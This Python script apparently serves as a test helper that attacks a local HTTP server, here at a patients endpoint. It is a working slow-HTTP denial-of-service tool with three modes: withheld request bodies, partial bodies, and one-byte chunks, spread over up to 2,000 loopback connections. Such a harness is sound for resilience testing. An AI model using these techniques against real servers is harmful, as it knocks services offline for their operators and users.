"""An attack on a server of this machine, as a process of its own: ``attacker.py KIND ADDRESS PEERS RATE KEY``.

It ends when its standard input is closed, and then prints how many connections it opened.
"""

import select
import socket
import sys
import time
from collections import deque
from collections.abc import Iterator
from contextlib import suppress

OPEN = 2_000
"""Connections that are kept open; the oldest is closed before another one is opened."""

HEAD = "POST /patients HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{key}{length}\r\n\r\n"


def main(kind: str, address: str, peers: str, rate: str, key: str) -> None:
    """Send the attack's bytes at the rate, from ``peers`` addresses in turn, until standard input is closed.

    The rate is in bytes per second; an empty key stands for none.
    """
    host, _, port = address.rpartition(":")
    credential = f"Authorization: Bearer {key}\r\n" if key else ""
    opened: deque[socket.socket] = deque()
    count = sent = 0
    began = time.monotonic()
    for connection, data in KINDS[kind](credential):
        ahead = 1.0
        while ahead > 0:
            ahead = sent / int(rate) - (time.monotonic() - began)
            if select.select([sys.stdin], [], [], max(ahead, 0))[0]:
                sys.stdout.write(str(count))
                return
        if connection:
            if len(opened) == OPEN:
                opened.popleft().close()
            source = f"127.0.{1 + count % int(peers)}.1"
            with suppress(OSError):
                opened.append(socket.create_connection((host, int(port)), 5, (source, 0)))
            count += 1
        with suppress(OSError):  # the server has closed it
            opened[-1].sendall(data)
        sent += len(data)


def silent_bodies(key: str) -> Iterator[tuple[bool, bytes]]:
    """A complete head on each connection, and nothing of its body."""
    while True:
        yield True, HEAD.format(key=key, length="Content-Length: 1000000").encode()


def large_bodies(key: str) -> Iterator[tuple[bool, bytes]]:
    """Half a megabyte on each connection, less than the head promises."""
    while True:
        yield True, HEAD.format(key=key, length="Content-Length: 1000000").encode()
        for _ in range(8):
            yield False, b"[" * 64_000


def tiny_chunks(key: str) -> Iterator[tuple[bool, bytes]]:
    """A single body in chunks of a byte."""
    yield True, HEAD.format(key=key, length="Transfer-Encoding: chunked").encode()
    while True:
        yield False, b"1\r\n \r\n" * 1000


KINDS = {"silent-bodies": silent_bodies, "large-bodies": large_bodies, "tiny-chunks": tiny_chunks}

if __name__ == "__main__":
    main(*sys.argv[1:])
